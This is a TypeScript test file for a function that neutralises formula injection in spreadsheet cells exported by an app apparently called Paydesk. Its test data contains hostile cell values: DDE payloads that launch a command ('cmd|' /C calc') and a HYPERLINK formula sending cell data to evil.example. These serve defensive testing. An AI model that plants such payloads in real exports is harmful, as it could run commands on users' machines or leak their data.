import { readdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { disarm } from "./formulas";

const seed = { seed: 20_261_127 };
const root = join(import.meta.dirname, "../../../..");

describe("a cell that a spreadsheet could run", () => {
  const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠"];
  const skipped = [
    "",
    " ",
    "\t",
    "\r",
    "\n",
    "\u00a0",
    "\u2003",
    "\u200b",
    "\ufeff",
    "\u00ad",
    '"',
    "“",
    '" ',
    "\t\n ",
  ];

  test("is text, whatever a spreadsheet skips before its sign", () => {
    for (const sign of signs)
      for (const before of skipped) {
        const cell = `${before}${sign}cmd|' /C calc'!A0`;
        expect(disarm(cell), JSON.stringify(cell)).toBe(`'${cell}`);
      }
  });

  test.each([
    "=1+1",
    '=HYPERLINK("https://evil.example?"&A1)',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(1))",
    "=DDE(1;2;3)",
    "-A1",
    "+A1",
    "@A1!",
  ])("is text: %s", (cell) => {
    expect(disarm(cell)).toBe(`'${cell}`);
  });

  test.each(["-12.50", "+49 (0) 30 1234-56", "- 1 000,00", "@ana.müller", "", "Müller = Söhne", "a@b.example", "'=1"])(
    "is none, and stays as it is: %s",
    (cell) => {
      expect(disarm(cell)).toBe(cell);
    },
  );

  test("begins with no sign after it was written, whatever it holds", () => {
    fc.assert(
      fc.property(fc.constantFrom(...skipped), fc.constantFrom(...signs), fc.string(), (before, sign, rest) => {
        const written = disarm(`${before}${sign}${rest}`);
        expect(written).toMatch(/^'|^[\s"“\p{Cf}]*[+＋－-]?[\d\s().,/-]*$|^[\s"“\p{Cf}]*[@＠][\p{L}\p{N}_.-]+\s*$/u);
      }),
      { ...seed, numRuns: 2_000 },
    );
  });
});

test("every table that Paydesk writes for users has its cells disarmed", () => {
  const sources = ["lib", "app", "sandbox"].flatMap((folder) =>
    readdirSync(join(root, folder), { recursive: true, encoding: "utf8" })
      .filter((file) => /\.tsx?$/.test(file) && !/\.test\.tsx?$/.test(file))
      .map((file) => `${folder}/${file}`),
  );
  const written = sources.flatMap((file) =>
    [
      ...readFileSync(join(root, file), "utf8").matchAll(
        /(?:new TableWriter|\bwriteTable)\((?!\{)[^;]*?, (true|false)\)/g,
      ),
    ].map(([, isDisarmed]) => ({ file, isDisarmed })),
  );
  expect(written.length).toBeGreaterThan(6);
  expect(written.filter(({ isDisarmed }) => isDisarmed === "false").map(({ file }) => file)).toEqual([
    "lib/files/intake/clipboard/pasted-range.ts",
  ]);
});
